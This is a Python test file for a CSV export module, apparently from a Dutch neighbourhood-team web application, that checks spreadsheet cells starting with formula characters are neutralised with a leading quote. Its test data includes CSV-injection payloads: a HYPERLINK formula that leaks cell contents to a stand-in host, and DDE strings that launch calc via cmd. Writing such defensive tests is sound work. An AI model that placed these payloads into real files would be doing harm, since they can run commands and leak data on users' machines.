"""CSV exports cannot smuggle a formula into a spreadsheet (OWASP CSV injection)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from wijkteam.core.csv_export import FORMULA_STARTS, csv_response, csv_text, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("https://example.invalid/?x="&A1,"Klik hier")',
        "+31 6 12345678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_each_formula_start_gets_a_quote(value):
    assert value[0] in FORMULA_STARTS
    assert safe_cell(value) == "'" + value


def test_the_six_formula_starts():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "value",
    [
        "Ayşe Kowalczyk-Łukasiewicz",
        "dossier gelezen",
        "a=b",
        "e-mail: a@b.nl",
        " =1+1 stays text after the space",
        "'=already quoted",
        "",
    ],
)
def test_ordinary_text_is_untouched(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_other_values_become_text():
    assert safe_cell(-5) == -5
    assert safe_cell(12) == 12
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"
    assert safe_cell(datetime.date(2026, 4, 2)) == "2026-04-02"
    assert safe_cell(datetime.datetime(2026, 4, 2, 9, 30)) == "2026-04-02T09:30:00"
    # Text that merely looks like a negative number is text typed in by someone: quoted.
    assert safe_cell("-5") == "'-5"


def test_csv_text_escapes_every_cell_and_keeps_quoting_and_semicolons():
    text = csv_text(
        [["=1+1", 'zegt "hoi"; en gaat', -3], ["@x", "gewoon", None]],
        header=["kolom", "=kop", "getal"],
    )
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [
        ["kolom", "'=kop", "getal"],
        ["'=1+1", 'zegt "hoi"; en gaat', "-3"],
        ["'@x", "gewoon", ""],
    ]


def test_csv_response_is_a_utf8_download_with_a_byte_order_mark():
    response = csv_response([["Ayşe", "=cmd"]], header=["naam", "notitie"], filename="x-1.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x-1.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["naam", "notitie"], ["Ayşe", "'=cmd"]]


def test_rows_may_be_a_generator():
    text = csv_text([n, f"-{n}"] for n in range(2))
    assert text.splitlines() == ["0;'-0", "1;'-1"]
